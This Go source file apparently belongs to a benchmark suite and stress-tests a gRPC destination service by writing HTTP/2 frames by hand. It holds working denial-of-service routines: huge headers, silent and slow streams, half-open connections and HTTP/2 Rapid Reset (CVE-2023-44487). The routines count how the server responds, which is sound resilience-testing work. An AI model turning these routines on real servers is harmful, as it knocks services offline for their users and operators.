package abuse

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	pb "github.com/linkerd/linkerd2-proxy-api/go/destination"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	"github.com/signpostd/signpost/dev/bench/measure"
	"github.com/signpostd/signpost/dev/bench/workload"
)

// Attacks by clients that write frames of HTTP/2 themselves, because a gRPC client keeps to what the server
// allows.

const (
	getMethod = "/io.linkerd.proxy.destination.Destination/Get"
	// hugeWindow lets the server send as much as it wants.
	hugeWindow = 1<<31 - 1
	frameBytes = 16 << 10 // the most that a frame may hold
)

// rawConn is a connection whose frames are written by hand.
type rawConn struct {
	net.Conn
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	next    uint32
}

// dialRaw connects and sends the preface of HTTP/2.
func (t *target) dialRaw(ctx context.Context) (*rawConn, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", t.addr)
	if err != nil {
		return nil, err
	}
	c := &rawConn{Conn: conn, framer: http2.NewFramer(conn, conn), next: 1}
	c.encoder = hpack.NewEncoder(&c.block)
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err == nil {
		err = c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: hugeWindow})
	}
	if err == nil {
		err = c.framer.WriteWindowUpdate(0, hugeWindow-65535)
	}
	if err != nil {
		_ = conn.Close()
		return nil, err
	}
	return c, nil
}

// open opens a stream of Get, whatever the server allows, with more headers.
func (c *rawConn) open(more ...hpack.HeaderField) (uint32, error) {
	id := c.next
	c.next += 2
	c.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: getMethod},
		{Name: ":authority", Value: "destination"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	}, more...) {
		if err := c.encoder.WriteField(f); err != nil {
			return 0, err
		}
	}
	rest := c.block.Bytes()
	first := rest[:min(len(rest), frameBytes)]
	rest = rest[len(first):]
	err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(rest) == 0})
	for err == nil && len(rest) > 0 {
		part := rest[:min(len(rest), frameBytes)]
		rest = rest[len(part):]
		err = c.framer.WriteContinuation(id, len(rest) == 0, part)
	}
	return id, err
}

// request sends the request of a stream, and that no more follows.
func (c *rawConn) request(id uint32, r *pb.GetDestination) error {
	b, err := proto.Marshal(r)
	if err != nil {
		return err
	}
	prefix := make([]byte, 5)
	binary.BigEndian.PutUint32(prefix[1:], uint32(len(b)))
	return c.framer.WriteData(id, true, append(prefix, b...))
}

// countFrames reads what the server sends until the connection ends, and counts it.
func (t *target) countFrames(c *rawConn) {
	answered := map[uint32]bool{}
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.DataFrame:
			if !answered[f.StreamID] {
				answered[f.StreamID] = true
				t.answered.Add(1)
			}
		case *http2.RSTStreamFrame, *http2.GoAwayFrame:
			t.rejected.Add(1)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				t.rejected.Add(1)
			}
		}
	}
}

// again makes connections until the context ends: when the server has ended one, another one follows.
func (t *target) again(ctx context.Context, conns int, use func(*rawConn) error) error {
	return repeat(ctx, conns, reconnectAfter, func(int) { t.once(ctx, use) })
}

// repeat calls a function with each number below n again and again, with pauses, until the context ends.
func repeat(ctx context.Context, n int, pause time.Duration, do func(int)) error {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() {
			for do(i); measure.Pause(ctx, pause) == nil; do(i) {
			}
		})
	}
	all.Wait()
	return ctx.Err()
}

// once uses one connection and holds it until the server or the context ends it.
func (t *target) once(ctx context.Context, use func(*rawConn) error) {
	c, err := t.dialRaw(ctx)
	if err != nil {
		return
	}
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer c.Close()
	// A write may fail because the server has ended the connection; what it said before counts.
	written := make(chan struct{})
	go func() {
		defer close(written)
		_ = use(c)
	}()
	t.countFrames(c)
	_ = c.Close()
	<-written
}

func attackHeaders(ctx context.Context, t *target) error {
	const each = 6
	value := strings.Repeat("y", headerBytes)
	return t.again(ctx, headerStreams/each, func(c *rawConn) error {
		for range each {
			t.asked.Add(1)
			if _, err := c.open(hpack.HeaderField{Name: "x", Value: value, Sensitive: true}); err != nil {
				return err
			}
		}
		return nil
	})
}

func attackSilentOne(ctx context.Context, t *target) error { return t.silent(ctx, 1) }

func attackSilentMany(ctx context.Context, t *target) error { return t.silent(ctx, silentConns) }

// silent opens streams and sends nothing on them.
func (t *target) silent(ctx context.Context, conns int) error {
	return t.again(ctx, conns, func(c *rawConn) error {
		for range silentStreams / conns {
			t.asked.Add(1)
			if _, err := c.open(); err != nil {
				return err
			}
		}
		return nil
	})
}

func attackPorts(ctx context.Context, t *target) error {
	return t.again(ctx, 1, func(c *rawConn) error {
		for i := range distinctPorts {
			if err := t.openGet(c, fmt.Sprintf("%s.%s.svc.cluster.local:%d", workload.Service, workload.Namespace, 1000+i)); err != nil {
				return err
			}
		}
		return nil
	})
}

func (t *target) openGet(c *rawConn, path string) error {
	t.asked.Add(1)
	id, err := c.open()
	if err != nil {
		return err
	}
	return c.request(id, &pb.GetDestination{Scheme: "k8s", Path: path})
}

// attackRapidReset opens streams and takes each back at once, so that no limit of open streams is reached
// (CVE-2023-44487).
func attackRapidReset(ctx context.Context, t *target) error {
	return t.again(ctx, resetConns, func(c *rawConn) error {
		for {
			if err := t.openGet(c, authority); err != nil {
				return err
			}
			if err := c.framer.WriteRSTStream(c.next-2, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
	})
}

// attackSlow opens streams whose answers nobody reads, or a byte every few milliseconds.
func attackSlow(ctx context.Context, t *target) error {
	return repeat(ctx, slowConns, reconnectAfter, func(i int) { t.slow(ctx, i%2 == 0) })
}

func (t *target) slow(ctx context.Context, reads bool) {
	c, err := t.dialRaw(ctx)
	if err != nil {
		return
	}
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer c.Close()
	for range slowStreams {
		if t.openGet(c, authority) != nil {
			return
		}
	}
	one := make([]byte, 1)
	for measure.Pause(ctx, 5*time.Millisecond) == nil {
		if !reads {
			continue
		}
		if _, err := c.Read(one); err != nil {
			return
		}
	}
}

// attackHalfOpen opens connections that send nothing, or only the preface of HTTP/2.
func attackHalfOpen(ctx context.Context, t *target) error {
	return repeat(ctx, 2*halfOpenConns, 10*reconnectAfter, func(i int) { t.halfOpen(ctx, []string{"", http2.ClientPreface}[i%2]) })
}

// halfOpen sends a text and holds the connection until the server or the context ends it.
func (t *target) halfOpen(ctx context.Context, send string) {
	t.asked.Add(1)
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", t.addr)
	if err != nil {
		return
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	defer conn.Close()
	if _, err := io.WriteString(conn, send); err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, conn)
	t.count(ctx, io.EOF)
}
